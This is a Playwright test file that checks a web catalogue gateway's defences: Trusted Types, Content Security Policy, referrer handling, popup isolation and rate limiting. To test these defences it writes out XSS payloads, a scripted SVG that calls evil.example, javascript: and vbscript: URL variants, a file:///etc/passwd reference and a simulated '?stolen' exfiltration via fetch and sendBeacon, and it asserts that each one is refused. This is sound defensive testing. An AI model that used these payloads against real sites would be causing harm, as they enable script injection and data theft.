import { createServer, type IncomingHttpHeaders, type Server as HttpServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, type Page } from '@playwright/test';
import { cards, expectAwake, openView } from './support/sentences.ts';
import { start, type Server } from './support/start.ts';
import { failedResource, test } from './support/test.ts';
import { setTripwires } from './support/tripwires.ts';

/** What a browser makes of the gateway's policies: each is tried by what it is there to stop. */

interface TrustedTypePolicies {
  readonly createPolicy: (name: string, rules: object) => unknown;
}

/** What Chromium writes of what a policy has stopped. */
const POLICY = /Trusted ?(?:HTML|Script|Type)|Content Security Policy/i;

const originOf = (page: Page) => new URL(page.url()).origin;

test.describe('a script that got into the page all the same', () => {
  test.use({ expectedProblems: POLICY });

  test('cannot make markup or code out of text: Trusted Types throw', async ({ page }) => {
    await openView(page);
    await expectAwake(page);
    const outcomes = await page.evaluate(() => {
      const attempt = (what: () => unknown) => {
        try {
          what();
          return 'done';
        } catch (error) {
          return error instanceof TypeError ? 'refused' : String(error);
        }
      };
      const element = document.createElement('div');
      const script = document.createElement('script');
      return {
        innerHTML: attempt(() => (element.innerHTML = '<img src=x onerror=alert(1)>')),
        outerHTML: attempt(() => (document.body.outerHTML = '<p>')),
        insertAdjacentHTML: attempt(() => element.insertAdjacentHTML('beforeend', '<b>')),
        write: attempt(() => document.write('<p>')),
        srcdoc: attempt(() => (document.createElement('iframe').srcdoc = '<p>')),
        parse: attempt(() => new DOMParser().parseFromString('<p>', 'text/html')),
        fragment: attempt(() => document.createRange().createContextualFragment('<p>')),
        scriptText: attempt(() => (script.text = 'alert(1)')),
        scriptAddress: attempt(() => (script.src = 'https://evil.example/x.js')),
        handler: attempt(() => element.setAttribute('onclick', 'alert(1)')),
        policy: attempt(() => {
          // TypeScript's own library does not know it.
          const { createPolicy } = Reflect.get(window, 'trustedTypes') as TrustedTypePolicies;
          return createPolicy.call(Reflect.get(window, 'trustedTypes'), 'mine', {});
        }),
        text: attempt(() => (element.textContent = '<b>')),
      };
    });
    expect(outcomes).toEqual({
      innerHTML: 'refused',
      outerHTML: 'refused',
      insertAdjacentHTML: 'refused',
      write: 'refused',
      srcdoc: 'refused',
      parse: 'refused',
      fragment: 'refused',
      scriptText: 'refused',
      scriptAddress: 'refused',
      handler: 'refused',
      policy: 'refused',
      text: 'done',
    });
    await expect(cards(page)).toHaveCount(30);
  });
});

test.describe('the tripwires of these tests', () => {
  test.use({ expectedProblems: /./ });

  test('trip', async ({ page }) => {
    const tripped = await setTripwires(page, []);
    await openView(page);
    await page.evaluate(() => {
      document.documentElement.dataset.ran = '1';
      new Image().src = 'http://evil.invalid/x.png';
      window.open('/organizations');
      alert('here');
    });
    await expect
      .poll(async () => (await tripped()).map((what) => what.replace(/:.*/, '')))
      .toEqual(expect.arrayContaining(['dialog', 'request', 'window', 'a script ran']));
  });
});

test.describe('what another site learns', () => {
  let site: HttpServer;
  let address: string;
  let asked: { url: string; headers: IncomingHttpHeaders }[];

  test.beforeEach(async () => {
    asked = [];
    site = createServer((request, response) => {
      asked.push({ url: request.url ?? '', headers: request.headers });
      response.writeHead(200, { 'Content-Type': 'text/html', 'Set-Cookie': 'seen=1' }).end('<h1>Shop</h1>');
    });
    await new Promise<void>((resolve) => {
      site.listen(0, '127.0.0.1', resolve);
    });
    address = `http://127.0.0.1:${(site.address() as AddressInfo).port}`; // a server that listens on a port
  });

  test.afterEach(() => {
    site.closeAllConnections();
    site.close();
  });

  test.describe('from a script that got into the page all the same', () => {
    test.use({ expectedProblems: POLICY });

    test('is nothing, and no form leads there', async ({ page }) => {
      const tripped = await setTripwires(page, []);
      await openView(page);
      await expectAwake(page);
      const outcome = await page.evaluate(async (elsewhere) => {
        const sent = await fetch(`${elsewhere}/?stolen`).then(
          () => 'sent',
          () => 'refused',
        );
        const beacon = navigator.sendBeacon(`${elsewhere}/?stolen`);
        const base = document.createElement('base');
        base.href = elsewhere;
        document.head.append(base);
        const frame = document.createElement('iframe');
        frame.src = elsewhere;
        document.body.append(frame);
        const style = document.createElement('link');
        style.rel = 'stylesheet';
        style.href = `${elsewhere}/x.css`;
        document.head.append(style);
        const form = document.createElement('form');
        form.action = elsewhere;
        document.body.append(form);
        form.submit();
        await new Promise((resolve) => setTimeout(resolve, 300));
        return { sent, beacon, base: document.baseURI };
      }, address);
      expect(outcome.sent).toBe('refused');
      expect(new URL(outcome.base).origin).toBe(originOf(page));
      const seen = await tripped();
      for (const directive of ['connect-src', 'base-uri', 'frame-src', 'style-src-elem', 'form-action'])
        expect(seen.join('\n')).toContain(`policy: ${directive}`);
      expect(asked).toEqual([]);
    });
  });

  test('from a link is where somebody came from, and nothing of what they looked at', async ({ page }) => {
    await openView(page, '?org=acme&q=rock');
    await page.evaluate((href) => {
      const link = document.createElement('a');
      link.href = href;
      link.textContent = 'To the shop';
      document.body.prepend(link);
    }, `${address}/order`);
    const origin = originOf(page);
    await page.getByRole('link', { name: 'To the shop' }).click();
    await expect(page.getByRole('heading', { name: 'Shop' })).toBeVisible();
    expect(asked.find(({ url }) => url === '/order')?.headers.referer).toBe(`${origin}/`);
  });

  test('that opens the catalogue in a window is not a hold of it', async ({ page, baseURL }) => {
    await page.goto(`${address}/`);
    const opened = page.waitForEvent('popup');
    await page.evaluate((url) => {
      Reflect.set(globalThis, 'opened', window.open(url));
    }, baseURL);
    const catalogue = await opened;
    await expect(cards(catalogue)).toHaveCount(30);
    expect(await catalogue.evaluate(() => window.opener)).toBeNull();
    expect(await page.evaluate(() => (Reflect.get(globalThis, 'opened') as Window).closed)).toBe(true);
  });
});

test.describe('a client that asks too often', () => {
  test.use({ expectedProblems: failedResource(429) });

  test('is told when to come again, by a page that goes on then and by one that is not made', async ({
    page,
  }) => {
    const gateway = await start('dist/server/main.js', { CATALOGUE_CLIENT_RATE_LIMIT: '3' });
    try {
      await page.goto(gateway.address);
      await expectAwake(page);
      for (let n = 0; n < 3; n += 1) await page.request.get(`${gateway.address}/core/v1/organizations`);
      await page.evaluate(() => {
        history.pushState(null, '', '/?org=acme');
        dispatchEvent(new PopStateEvent('popstate'));
      });
      await expect(page.getByRole('alert')).toContainText('Too many requests');
      await expect(page.getByRole('alert')).toContainText(/\d+ s|second/);
      const answer = await page.goto(gateway.address);
      expect(answer?.status()).toBe(429);
      await expect(page.getByRole('heading', { name: 'Too many requests' })).toBeVisible();
    } finally {
      await gateway.stop();
    }
  });
});

test.describe('icons of another host', () => {
  test.use({ expectedProblems: failedResource(404) });

  let api: HttpServer;
  let gateway: Server;
  let iconRequests: { url: string; headers: IncomingHttpHeaders }[];

  test.beforeAll(async () => {
    iconRequests = [];
    api = createServer((request, response) => {
      const { pathname } = new URL(request.url ?? '/', 'http://api.invalid');
      if (pathname.startsWith('/icons/')) {
        iconRequests.push({ url: pathname, headers: request.headers });
        serveIcon(pathname, (status, headers, body) => response.writeHead(status, headers).end(body));
        return;
      }
      response.writeHead(200, { 'Content-Type': 'application/json' });
      response.end(JSON.stringify(answerOf(pathname, `http://127.0.0.1:${port()}`)));
    });
    const port = () => (api.address() as AddressInfo).port; // a server that listens on a port
    await new Promise<void>((resolve) => {
      api.listen(0, '127.0.0.1', resolve);
    });
    gateway = await start('dist/server/main.js', {
      KATAPULT_API_URL: `http://127.0.0.1:${port()}`,
      KATAPULT_API_TOKEN: 'anything',
    });
  });

  test.afterAll(async () => {
    await gateway.stop();
    api.closeAllConnections();
    api.close();
  });

  const SCRIPT = `<script>document.documentElement.dataset.ran=1;fetch('https://evil.example/')</script>`;
  const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1" onload="document.documentElement.dataset.ran=1">${SCRIPT}<image href="https://evil.example/x.png"/></svg>`;

  function serveIcon(
    path: string,
    answer: (status: number, headers: Record<string, string>, body: string) => void,
  ): void {
    const cookie = { 'Set-Cookie': 'tracked=1; Path=/', 'Cache-Control': 'no-store' };
    if (path.endsWith('scripted.svg')) answer(200, { 'Content-Type': 'image/svg+xml', ...cookie }, SVG);
    else if (path.endsWith('huge.svg'))
      answer(200, { 'Content-Type': 'image/svg+xml', ...cookie }, SVG.replaceAll('="1"', '="100000"'));
    else if (path.endsWith('page.png')) answer(200, { 'Content-Type': 'text/html', ...cookie }, SCRIPT);
    else if (path.endsWith('code.js')) answer(200, { 'Content-Type': 'text/javascript' }, 'alert(1)');
    else answer(404, {}, '');
  }

  function answerOf(path: string, host: string): object {
    if (path.endsWith('/organizations')) return { organizations: [] };
    const icons = [
      `${host}/icons/scripted.svg`,
      `${host}/icons/huge.svg`,
      `${host}/icons/page.png`,
      `${host}/icons/code.js`,
      `${host}/icons/missing.png`,
      'javascript:document.documentElement.dataset.ran=1',
      ' javascript:document.documentElement.dataset.ran=1',
      'java\nscript:document.documentElement.dataset.ran=1',
      'JaVaScRiPt:document.documentElement.dataset.ran=1',
      `data:image/svg+xml,${encodeURIComponent(SVG)}`,
      'vbscript:msgbox(1)',
      'file:///etc/passwd',
      'blob:https://evil.example/1',
      'ftp://evil.example/x.png',
      `x" onerror="document.documentElement.dataset.ran=1`,
    ];
    return {
      pagination: { current_page: 1, per_page: 200, total: icons.length, total_pages: 1, large_set: false },
      virtual_machine_packages: icons.map((url, n) => ({
        id: `vmpkg_${n}`,
        name: `Package ${n}`,
        permalink: `package-${n}`,
        icon: { url },
      })),
    };
  }

  test('are pictures or nothing, and their hosts learn nothing of what is looked at', async ({ page }) => {
    const host = `http://127.0.0.1:${(api.address() as AddressInfo).port}`; // a server that listens on a port
    const tripped = await setTripwires(page, [gateway.address, host]);
    await page.goto(`${gateway.address}/?q=package`);
    await expect(cards(page)).toHaveCount(15);
    await expect(page.locator('main img[src$="scripted.svg"]')).toBeVisible();
    // Those that are no pictures give way to the drawn mark.
    await expect
      .poll(() =>
        page.locator('main img').evaluateAll((images) => images.map((image) => image.getAttribute('src'))),
      )
      .toEqual([`${host}/icons/scripted.svg`, `${host}/icons/huge.svg`]);
    const huge = await page.locator('main img[src$="huge.svg"]').boundingBox();
    expect([huge?.width, huge?.height]).toEqual([28, 28]);
    for (const image of await page.locator('main img').all())
      await expect(image).toHaveAttribute('referrerpolicy', 'no-referrer');
    expect(iconRequests.map(({ url }) => url)).toContain('/icons/scripted.svg');
    for (const { url, headers } of iconRequests)
      expect([url, headers.referer, headers.authorization, headers.origin]).toEqual([
        url,
        undefined,
        undefined,
        undefined,
      ]);
    expect(await tripped()).toEqual([]);
  });
});
